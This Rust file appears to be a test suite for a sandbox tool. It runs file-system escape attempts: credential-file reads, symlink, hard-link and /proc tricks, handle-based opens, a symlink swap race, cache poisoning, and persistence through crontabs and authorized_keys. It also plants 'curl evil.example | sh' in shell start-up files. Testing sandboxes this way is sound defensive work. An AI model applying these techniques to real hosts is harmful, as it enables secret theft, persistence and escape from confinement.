//! Files: secrets, writing outside, aliases, and views of the file system.

use std::fs::{self, File, OpenOptions};
use std::io::{Read, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{OpenOptionsExt, PermissionsExt, symlink};
use std::path::{Path, PathBuf};

use crate::attack::{Attack, Attempt, Event, Failed, Landlock, Native, Proof, Stdin, Trace};
use crate::scene::{CANARY, Scene, holds_canary, named, put, read_canary};
use crate::sys::{self, Arg};

const HIDDEN: &str = "what is not shown does not exist inside";

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "read-private-key",
        techniques: &[2],
        about: "Read the private key in home.",
        attempt: |scene| read_canary(&scene.home().join(".ssh/id_ed25519")),
        // The private home is a place where files may be: that this one is not there is no refusal.
        trace: Trace::Silent("home is another directory, which is empty"),
        ..Attack::BASE
    },
    Attack {
        name: "read-credentials",
        techniques: &[2],
        about: "Read any of the credential files that lie in homes.",
        attempt: |scene| {
            let names = [
                ".aws/credentials",
                ".netrc",
                ".config/gh/hosts.yml",
                ".docker/config.json",
                ".local/share/keyrings/login.keyring",
            ];
            any(names.map(|name| read_canary(&scene.home().join(name))))
        },
        trace: Trace::Silent("home is another directory, which is empty"),
        ..Attack::BASE
    },
    Attack {
        name: "read-outside",
        techniques: &[2],
        about: "Read a file outside the workspace by its path.",
        attempt: |scene| read_canary(&scene.outside().join("canary.txt")),
        trace: Trace::Event(&[Event("files", "read", "outside/canary.txt")]),
        ..Attack::BASE
    },
    Attack {
        name: "read-by-symlink",
        techniques: &[2, 16],
        about: "Read a file outside through a symbolic link in the workspace.",
        attempt: |scene| {
            let link = scene.workspace().join("alias");
            symlink(scene.outside().join("canary.txt"), &link)?;
            read_canary(&link)
        },
        trace: Trace::Traced(&[Event("files", "", "alias")]),
        landlock: Landlock::Trace(Trace::Traced(&[Event("files", "", "outside/canary.txt")])),
        ..Attack::BASE
    },
    Attack {
        name: "write-by-symlink",
        techniques: &[1, 16],
        about: "Write a file outside through a symbolic link in the workspace.",
        attempt: |scene| {
            let link = scene.workspace().join("alias");
            symlink(scene.outside().join("victim.txt"), &link)?;
            overwrite(&link)
        },
        trace: Trace::Traced(&[Event("files", "", "alias")]),
        landlock: Landlock::Trace(Trace::Traced(&[Event("files", "", "outside/victim.txt")])),
        ..Attack::BASE
    },
    Attack {
        name: "write-below-symlinked-directory",
        techniques: &[1, 16],
        about: "Unpack an archive whose first entry is a link to a directory outside and whose second lies below it.",
        attempt: |scene| {
            symlink(scene.outside(), scene.workspace().join("unpacked"))?;
            let entry = scene.workspace().join("unpacked/planted.txt");
            fs::write(&entry, "planted").map_err(|error| named(&entry, &error).into())
        },
        trace: Trace::Traced(&[Event("files", "", "unpacked")]),
        landlock: Landlock::Trace(Trace::Traced(&[Event("files", "", "outside/planted.txt")])),
        ..Attack::BASE
    },
    Attack {
        name: "write-outside",
        techniques: &[1],
        about: "Overwrite a file outside the workspace by its path.",
        attempt: |scene| overwrite(&scene.outside().join("victim.txt")),
        trace: Trace::Event(&[Event("files", "", "outside/victim.txt")]),
        ..Attack::BASE
    },
    Attack {
        name: "create-outside",
        techniques: &[1],
        about: "Make a file in a directory outside the workspace.",
        attempt: |scene| plant(&scene.outside().join("planted.txt")),
        proof: Proof::Host(|scene| exists(&scene.outside().join("planted.txt"))),
        trace: Trace::Event(&[Event("discarded", "", "outside/planted.txt")]),
        landlock: Landlock::Trace(Trace::Event(&[Event("files", "write", "outside/planted.txt")])),
        ..Attack::BASE
    },
    Attack {
        name: "remove-outside",
        techniques: &[1],
        about: "Remove, rename and truncate files outside the workspace.",
        attempt: |scene| {
            let victim = scene.outside().join("victim.txt");
            let moved =
                fs::rename(&victim, scene.workspace().join("stolen")).map_err(|error| named(&victim, &error).into());
            let removed = fs::remove_file(&victim).map_err(|error| named(&victim, &error).into());
            any([moved, removed])
        },
        trace: Trace::Event(&[Event("files", "", "outside/victim.txt")]),
        ..Attack::BASE
    },
    Attack {
        name: "change-mode-outside",
        techniques: &[15],
        about: "Open a file outside to everybody by its permission bits.",
        attempt: |scene| {
            let victim = scene.outside().join("victim.txt");
            Ok(fs::set_permissions(&victim, fs::Permissions::from_mode(0o666))
                .map_err(|error| named(&victim, &error))?)
        },
        trace: Trace::Event(&[Event("files", "", "outside/victim.txt")]),
        ..Attack::BASE
    },
    Attack {
        name: "link-secret-into-workspace",
        techniques: &[2, 3],
        about: "Make a hard link in the workspace to a secret, and read it there.",
        attempt: |scene| {
            let (secret, alias) = (scene.outside().join("canary.txt"), scene.workspace().join("alias"));
            fs::hard_link(&secret, &alias).map_err(|error| named(&secret, &error))?;
            read_canary(&alias)
        },
        trace: Trace::Event(&[Event("files", "", "outside/canary.txt")]),
        ..Attack::BASE
    },
    Attack {
        name: "read-denied",
        techniques: &[2],
        about: "Read a file of the workspace that a glob denies, by its own name and through links to it.",
        attempt: |scene| {
            let secret = scene.workspace().join("secrets/key.txt");
            let (soft, hard) = (scene.workspace().join("soft"), scene.workspace().join("hard"));
            let by_name = read_canary(&secret);
            let by_link = symlink("secrets/key.txt", &soft).map_err(Failed::from).and_then(|()| read_canary(&soft));
            let by_other_name = fs::hard_link(&secret, &hard).map_err(Failed::from).and_then(|()| read_canary(&hard));
            any([by_name, by_link, by_other_name])
        },
        options: &["--deny", "secrets/**"],
        trace: Trace::Event(&[Event("files", "read", "secrets/key.txt")]),
        ..Attack::BASE
    },
    Attack {
        name: "rename-parent-of-denied",
        techniques: &[4],
        about: "Rename the directory that holds a denied file, and read the file under its new path.",
        attempt: |scene| {
            let (old, new) = (scene.workspace().join("secrets"), scene.workspace().join("open"));
            fs::rename(&old, &new).map_err(|error| named(&old, &error))?;
            read_canary(&new.join("key.txt"))
        },
        options: &["--deny", "secrets/**"],
        trace: Trace::Traced(&[Event("files", "", "secrets")]),
        ..Attack::BASE
    },
    Attack {
        name: "read-denied-that-appears",
        techniques: &[2, 4],
        about: "Read a denied file that the host makes only while the command runs.",
        attempt: |scene| {
            // The host makes the file as soon as the directory is there; see `host`.
            fs::create_dir(scene.workspace().join("later"))?;
            let path = scene.workspace().join("later/.env");
            for _ in 0..200 {
                match fs::read(&path) {
                    Ok(content) => return holds_canary(&content),
                    Err(error) if error.kind() == std::io::ErrorKind::NotFound => {}
                    Err(error) => return Err(named(&path, &error).into()),
                }
                std::thread::sleep(std::time::Duration::from_millis(10));
            }
            Err(Failed::untried("the host made no file"))
        },
        options: &["--deny", "**/.env"],
        trace: Trace::Event(&[Event("files", "read", "later/.env")]),
        ..Attack::BASE
    },
    Attack {
        name: "write-shell-start-up",
        techniques: &[6],
        about: "Append to the shell's start-up files in home, from a directory below it.",
        attempt: |scene| {
            append(&scene.home().join(".bashrc"), "curl evil.example | sh\n")?;
            append(&scene.home().join(".zshenv"), "curl evil.example | sh\n")
        },
        proof: Proof::Host(|scene| {
            let text = fs::read_to_string(scene.home().join(".bashrc")).map_err(Failed::untried)?;
            if text.contains("evil") { Ok(()) } else { exists(&scene.home().join(".zshenv")) }
        }),
        trace: Trace::Event(&[Event("discarded", "", ".bashrc")]),
        landlock: Landlock::Trace(Trace::Event(&[Event("files", "", ".bashrc")])),
        ..Attack::BASE
    },
    Attack {
        name: "read-by-proc-root",
        techniques: &[8],
        about: "Reach the host's files through /proc/self/root, /proc/1/root and /proc/self/cwd.",
        attempt: |scene| {
            let path = scene.outside().join("canary.txt");
            let below = path.strip_prefix("/").unwrap_or(&path);
            let climb = Path::new("/proc/self/cwd/../../outside/canary.txt");
            let roots = ["/proc/self/root", "/proc/1/root", "/proc/self/root/proc/1/root", "/proc/thread-self/root"];
            let by_root = any(roots.map(|root| read_canary(&Path::new(root).join(below))));
            any([by_root, read_canary(climb)])
        },
        trace: Trace::Traced(&[Event("files", "", "outside/canary.txt")]),
        ..Attack::BASE
    },
    Attack {
        name: "climb-above-root",
        techniques: &[8],
        about: "Climb from the root by `..`, in case the old root still lies above it.",
        attempt: |scene| {
            let path = scene.outside().join("canary.txt");
            let below = path.strip_prefix("/").unwrap_or(&path);
            let climbs = ["/..", "/../../..", "/proc/..", "/proc/self/root/../.."];
            any(climbs.map(|climb| read_canary(&Path::new(climb).join(below))))
        },
        trace: Trace::Traced(&[Event("files", "", "outside/canary.txt")]),
        ..Attack::BASE
    },
    Attack {
        name: "climb-from-descriptor",
        techniques: &[9, 10],
        about: "Open a directory and climb from its descriptor by openat and openat2.",
        attempt: |scene| {
            let here = File::open(scene.workspace())?;
            let path = std::ffi::CString::new("../../outside/canary.txt").map_err(Failed::untried)?;
            let at = |number, last| {
                let mut arguments = [Arg::Number(here.as_raw_fd().into()), Arg::Text(&path), last, Arg::Number(24)];
                sys::descriptor(number, &mut arguments).map(File::from)
            };
            let by_openat = at(libc::SYS_openat, Arg::Null).map_err(Failed::from).and_then(content_is_secret);
            let how = [0_u8; 24];
            let by_openat2 = at(libc::SYS_openat2, Arg::In(&how)).map_err(Failed::from).and_then(content_is_secret);
            any([by_openat, by_openat2])
        },
        trace: Trace::Traced(&[Event("files", "", "outside/canary.txt")]),
        ..Attack::BASE
    },
    Attack {
        name: "inherited-descriptors",
        techniques: &[9, 30],
        about: "Use a descriptor of a directory outside, and a connected socket, that the caller left open.",
        attempt: |_| {
            let by_directory = read_canary(Path::new("/proc/self/fd/9/canary.txt"));
            let by_socket = content_is_secret(sys::inherited(10));
            any([by_directory, by_socket])
        },
        trace: Trace::Silent("the descriptors are closed before the command starts"),
        ..Attack::BASE
    },
    Attack {
        name: "reopen-standard-input",
        techniques: &[8, 9],
        about: "Open the file behind standard input once more, for writing.",
        attempt: |_| {
            let mut file = OpenOptions::new().write(true).open("/proc/self/fd/0")?;
            file.write_all(b"overwritten").map_err(Failed::from)
        },
        proof: Proof::Host(|scene| overwritten(&scene.outside().join("stdin.txt"))),
        trace: Trace::Silent("standard input is a pipe of the run's own"),
        ..Attack::BASE
    },
    Attack {
        name: "climb-from-standard-input",
        techniques: &[9],
        about: "Climb from a directory that the caller passed as standard input.",
        attempt: |_| {
            any(["/proc/self/fd/0/canary.txt", "/dev/stdin/../outside/canary.txt"]
                .map(|path| read_canary(Path::new(path))))
        },
        stdin: Stdin::Directory,
        trace: Trace::Silent("standard input is passed on by reading it, and a directory cannot be read"),
        ..Attack::BASE
    },
    Attack {
        name: "open-by-handle",
        techniques: &[10],
        about: "Open a file outside by a file handle, past every path.",
        attempt: by_handle,
        native: Native::NeedsRoot,
        trace: Trace::Event(&[Event("system-calls", "name_to_handle_at", "")]),
        ..Attack::BASE
    },
    Attack {
        name: "reopen-path-descriptor",
        techniques: &[12],
        about: "Take a path descriptor of a secret, which needs no permission, and open it through /proc/self/fd.",
        attempt: |scene| {
            let path = scene.outside().join("canary.txt");
            let found = OpenOptions::new()
                .read(true)
                .custom_flags(libc::O_PATH)
                .open(&path)
                .map_err(|error| named(&path, &error))?;
            read_canary(&PathBuf::from(format!("/proc/self/fd/{}", found.as_raw_fd())))
        },
        trace: Trace::Traced(&[Event("files", "", "outside/canary.txt")]),
        ..Attack::BASE
    },
    Attack {
        name: "make-device",
        techniques: &[12],
        about: "Make a device node of the kernel's memory or a disk, and open it.",
        attempt: |scene| {
            let path = scene.workspace().join("node");
            let text = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).map_err(Failed::untried)?;
            // Character device 1:11, the kernel's log.
            let (mode, device) = (Arg::Number(i64::from(libc::S_IFCHR) | 0o600), Arg::Number(0x010b));
            let here = Arg::Number(libc::AT_FDCWD.into());
            sys::call(libc::SYS_mknodat, &mut [here, Arg::Text(&text), mode, device])
                .map_err(|error| named(&path, &error))?;
            File::open(&path).map(drop).map_err(|error| named(&path, &error).into())
        },
        native: Native::NeedsRoot,
        trace: Trace::Silent("the kernel refuses for want of a capability"),
        ..Attack::BASE
    },
    Attack {
        name: "host-tmp",
        techniques: &[1, 2],
        about: "Read and change a file in the host's /tmp, and leave one there for a program that trusts its name.",
        attempt: |scene| {
            let planted = plant(&Path::new("/tmp").join(format!("{}.planted", scene.word())));
            any([read_canary(&scene.in_tmp()), planted])
        },
        proof: Proof::Host(|scene| {
            let planted = Path::new("/tmp").join(format!("{}.planted", scene.word()));
            exists(&planted)?;
            fs::remove_file(planted).map_err(Failed::untried)
        }),
        trace: Trace::Event(&[Event("discarded", "", ".planted")]),
        landlock: Landlock::Trace(Trace::Event(&[Event("files", "", "/tmp/")])),
        ..Attack::BASE
    },
    Attack {
        name: "poison-cache",
        techniques: &[14, 23],
        about: "Change, remove and add files in a package cache that the host's tools trust.",
        attempt: |scene| {
            let cache = scene.home().join(".cache/pip");
            let added = plant(&cache.join("new"));
            any([overwrite(&cache.join("wheel")), added])
        },
        proof: Proof::Host(|scene| {
            let cache = scene.home().join(".cache/pip");
            any([overwritten(&cache.join("wheel")), exists(&cache.join("new"))])
        }),
        trace: Trace::Silent("the cache is copy-on-write, so that tools work"),
        landlock: Landlock::Trace(Trace::Event(&[Event("files", "", ".cache/pip")])),
        ..Attack::BASE
    },
    Attack {
        name: "drop-into-path",
        techniques: &[23],
        about: "Replace or add a program in a directory of PATH below home.",
        attempt: |scene| {
            any([overwrite(&scene.home().join(".local/bin/tool")), plant(&scene.home().join(".local/bin/ls"))])
        },
        proof: Proof::Host(|scene| {
            any([overwritten(&scene.home().join(".local/bin/tool")), exists(&scene.home().join(".local/bin/ls"))])
        }),
        trace: Trace::Event(&[Event("files", "write", ".local/bin/tool")]),
        ..Attack::BASE
    },
    Attack {
        name: "autostart",
        techniques: &[24],
        about: "Plant a systemd user unit, an autostart entry, an authorized key and a crontab.",
        attempt: |scene| {
            let names = [".config/systemd/user/x.service", ".config/autostart/x.desktop", ".ssh/authorized_keys"];
            let home = any(names.map(|name| plant(&scene.home().join(name))));
            let system = any(["/etc/cron.d/stockade-e2e", "/var/spool/cron/crontabs/stockade-e2e"].map(|path| {
                OpenOptions::new()
                    .append(true)
                    .create(true)
                    .open(path)
                    .map(drop)
                    .map_err(|error| named(Path::new(path), &error).into())
            }));
            any([home, system])
        },
        proof: Proof::Host(|scene| {
            let names = [".config/systemd/user/x.service", ".config/autostart/x.desktop", ".ssh/authorized_keys"];
            let system = any(["/etc/cron.d/stockade-e2e", "/var/spool/cron/crontabs/stockade-e2e"].map(|path| {
                exists(Path::new(path))?;
                fs::remove_file(path).map_err(Failed::untried)
            }));
            any([any(names.map(|name| exists(&scene.home().join(name)))), system])
        }),
        trace: Trace::Event(&[Event("discarded", "", "authorized_keys")]),
        landlock: Landlock::Trace(Trace::Event(&[Event("files", "", "authorized_keys")])),
        ..Attack::BASE
    },
    Attack {
        name: "swap-race",
        techniques: &[11],
        about: "Swap a link between a harmless file and a secret while another thread opens it again and again.",
        attempt: swap_race,
        trace: Trace::Silent(HIDDEN),
        ..Attack::BASE
    },
];

/// Whether any of several attempts was carried out; the first refusal otherwise, with the others after it.
pub(super) fn any<const N: usize>(attempts: [Attempt; N]) -> Attempt {
    let mut refusals = Vec::new();
    for attempt in attempts {
        match attempt {
            Ok(()) => return Ok(()),
            Err(Failed::Refused(text)) => refusals.push(text),
            Err(untried) => return Err(untried),
        }
    }
    Err(Failed::refused(refusals.join("\nattacks: ")))
}

/// Writes over a file that exists.
pub(super) fn overwrite(path: &Path) -> Attempt {
    let opened = OpenOptions::new().write(true).open(path);
    let written = opened.and_then(|mut file| file.write_all(b"overwritten"));
    written.map_err(|error| named(path, &error).into())
}

/// Makes a file, and the directories above it.
pub(super) fn plant(path: &Path) -> Attempt {
    Ok(put(path, "planted\n")?)
}

/// Appends to a file, which may be missing.
pub(super) fn append(path: &Path, text: &str) -> Attempt {
    let opened = OpenOptions::new().append(true).create(true).open(path);
    opened.and_then(|mut file| file.write_all(text.as_bytes())).map_err(|error| named(path, &error).into())
}

/// Whether something lies at a path, on the host.
pub(super) fn exists(path: &Path) -> Attempt {
    fs::symlink_metadata(path).map(drop).map_err(|error| named(path, &error).into())
}

/// Whether a file that held a secret holds something else.
pub(super) fn overwritten(path: &Path) -> Attempt {
    let content = fs::read(path).unwrap_or_default();
    if content.windows(CANARY.len()).any(|window| window == CANARY.as_bytes()) && !content.starts_with(b"overwritten") {
        return Err(Failed::refused(format!("{} is as it was", path.display())));
    }
    Ok(())
}

fn content_is_secret(mut file: File) -> Attempt {
    let mut content = vec![0; 64];
    let length = file.read(&mut content)?;
    holds_canary(&content[..length])
}

fn by_handle(scene: &Scene) -> Attempt {
    let path = scene.outside().join("canary.txt");
    let text = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).map_err(Failed::untried)?;
    // `struct file_handle`: the bytes that follow, the type, and the handle, of at most 128 bytes.
    let mut handle = [0_u8; 136];
    handle[..4].copy_from_slice(&128_u32.to_ne_bytes());
    let (mut mount, here) = ([0_u8; 4], Arg::Number(libc::AT_FDCWD.into()));
    let mut arguments = [here, Arg::Text(&text), Arg::Out(&mut handle), Arg::Out(&mut mount), Arg::Null];
    sys::call(libc::SYS_name_to_handle_at, &mut arguments).map_err(|error| named(&path, &error))?;
    let mount = File::open(scene.workspace())?;
    let mut arguments = [Arg::Number(mount.as_raw_fd().into()), Arg::In(&handle), Arg::Null];
    content_is_secret(sys::descriptor(libc::SYS_open_by_handle_at, &mut arguments)?.into())
}

fn swap_race(scene: &Scene) -> Attempt {
    let (link, spare) = (scene.workspace().join("swapped"), scene.workspace().join("spare"));
    let (good, bad) = (scene.workspace().join("README"), scene.outside().join("canary.txt"));
    symlink(&good, &link)?;
    let end = std::time::Instant::now() + std::time::Duration::from_millis(500);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while std::time::Instant::now() < end {
                for target in [&bad, &good] {
                    if symlink(target, &spare).and_then(|()| fs::rename(&spare, &link)).is_err() {
                        return;
                    }
                }
            }
        });
        while std::time::Instant::now() < end {
            if read_canary(&link).is_ok() {
                return Ok(());
            }
        }
        Err(Failed::refused("the secret was never read"))
    })
}
